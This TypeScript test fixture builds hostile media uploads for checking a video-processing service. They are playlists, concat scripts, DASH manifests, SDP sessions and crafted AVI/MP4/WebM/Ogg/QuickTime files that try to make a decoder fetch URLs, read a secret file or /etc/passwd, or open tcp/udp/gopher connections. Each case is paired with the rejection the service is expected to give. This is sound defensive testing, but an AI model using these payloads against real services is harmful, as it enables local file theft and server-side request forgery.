import { type Bait, type HostileUpload, hostile } from './hostile-upload.ts';
import { box, movie, words } from './movie-bytes.ts';
import { png } from './picture-bytes.ts';
import { id3 } from './sounds.ts';

/** Files that want others opened: on this machine, or over the network. */
export function pointingFiles({ http, port, udpPort, secretFile }: Bait): HostileUpload[] {
  const playlist = (...lines: string[]) =>
    [
      '#EXTM3U',
      '#EXT-X-MEDIA-SEQUENCE:0',
      ...lines.flatMap((line) => ['#EXTINF:1.0,', line]),
      '#EXT-X-ENDLIST',
      '',
    ].join('\n');
  const fetching = playlist(`${http}/a.ts`);
  const concat = playlist(`concat:${http}/head.m3u8|file://${secretFile}`);
  const keyed = `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${http}/key"\n#EXTINF:1,\ncrypto:file://${secretFile}\n#EXT-X-ENDLIST\n`;
  const script = `ffconcat version 1.0\nfile '${secretFile}'\nfile '${http}/b.mp4'\n`;
  const dash = `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><BaseURL>${http}/dash/</BaseURL></Period></MPD>`;
  const session = `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${udpPort} RTP/AVP 96\n`;
  const subtitles = Buffer.concat([Buffer.from('GAB2\0\u0002\0'), Buffer.from(fetching)]);
  const avi = Buffer.concat([
    Buffer.from('RIFF\0\u0010\0\0AVI LIST\0\0\0\0hdrlavih'),
    Buffer.alloc(56),
    Buffer.from('txts00sb'),
    subtitles,
  ]);
  const refuses = ['unsupportedFormat', 'notAVideo'] as const;
  return [
    hostile('a playlist that fetches', 'playlist.mp4', fetching, ...refuses),
    hostile(
      'a playlist of files of this machine',
      'playlist.webm',
      playlist(`file://${secretFile}`, '/etc/passwd'),
      ...refuses,
    ),
    hostile('a playlist that joins a page and a file', 'concat.mov', concat, ...refuses),
    hostile('a playlist with a key to fetch', 'crypto.mp4', keyed, ...refuses),
    hostile(
      'a playlist of other protocols',
      'protocols.mp4',
      playlist(
        `tcp://127.0.0.1:${port}`,
        `udp://127.0.0.1:${udpPort}`,
        `rtmp://127.0.0.1:${port}/x`,
        `gopher://127.0.0.1:${port}/x`,
      ),
      ...refuses,
    ),
    hostile('a list of files to join', 'joined.mp4', script, ...refuses),
    hostile('a list of files to join, called a sound', 'joined.mp3', script, 'unsupportedFormat'),
    hostile('a manifest that fetches', 'manifest.mp4', dash, ...refuses),
    hostile('a session to be listened to', 'session.mp4', session, ...refuses),
    hostile('an AVI with a playlist in its subtitles', 'subtitles.mp4', avi, ...refuses),
    hostile(
      'a playlist of an AVI with a playlist',
      'nested.webm',
      Buffer.concat([Buffer.from(playlist('nested.webm')), avi]),
      ...refuses,
    ),
    hostile(
      'a playlist behind the beginning of an MP4',
      'begin.mp4',
      Buffer.concat([box('ftyp', 'isom', words(0x200), 'isom'), Buffer.from(fetching)]),
      'damaged',
    ),
    hostile(
      'a playlist in a box of an MP4',
      'boxed.mp4',
      Buffer.concat([box('ftyp', 'isom', words(0x200), 'isom'), box('mdat', fetching)]),
      'damaged',
      'notAVideo',
    ),
    hostile(
      'a playlist behind the beginning of a WebM',
      'begin.webm',
      Buffer.concat([
        Buffer.from(
          '1a45dfa39f4286810142f7810142f2810442f381084282847765626d428781044285810218538067',
          'hex',
        ),
        Buffer.from(fetching),
      ]),
      'damaged',
      'notAVideo',
      ...refuses,
    ),
    hostile(
      'a playlist behind the beginning of an Ogg',
      'begin.ogv',
      `OggS\0\u0002${'\0'.repeat(20)}\u0001\u0007${fetching}`,
      'damaged',
      'notAVideo',
    ),
    hostile(
      'a playlist behind the tags of a sound',
      'begin.mp3',
      Buffer.concat([id3(), Buffer.from(fetching)]),
      'damaged',
      'unsupportedFormat',
    ),
    ...pointingMovies({ http, secretFile }),
  ];
}

function pointingMovies({ http, secretFile }: Pick<Bait, 'http' | 'secretFile'>): HostileUpload[] {
  const frames = Array.from({ length: 12 }, () => png({ width: 64, height: 48 }));
  const url = (address: string) => box('url ', words(0), `${address}\0`);
  const name = Buffer.alloc(150);
  name[50] = secretFile.length;
  name.write(secretFile.slice(0, 63), 51);
  const whole = Buffer.concat([
    words(0),
    name,
    Buffer.from([0, 18, 0, secretFile.length]),
    Buffer.from(secretFile),
    Buffer.from([0xff, 0xff, 0, 0]),
  ]);
  const reference = box(
    'rmra',
    box('rmda', box('rdrf', words(0), 'url ', words(http.length + 1), `${http}\0`)),
  );
  const beginning = box('ftyp', 'qt  ', words(0x200), 'qt  ');
  // The table is read; that the pictures are elsewhere either ends it or is overlooked, but nobody goes there.
  const ends = ['damaged', 'ready', 'notAVideo'] as const;
  return [
    hostile(
      'a film whose pictures are elsewhere',
      'elsewhere.mp4',
      movie({ frames, dataReference: url(`${http}/frames`) }),
      ...ends,
    ),
    hostile(
      'a film whose pictures are in a file',
      'file.mp4',
      movie({ frames, dataReference: url(`file://${secretFile}`) }),
      ...ends,
    ),
    hostile(
      'a film whose pictures are behind an alias',
      'alias.mov',
      movie({ frames, brand: 'qt  ', dataReference: box('alis', whole) }),
      ...ends,
    ),
    hostile(
      'a film that sends on to another',
      'reference.mov',
      Buffer.concat([beginning, box('moov', reference)]),
      'damaged',
      'notAVideo',
    ),
  ];
}
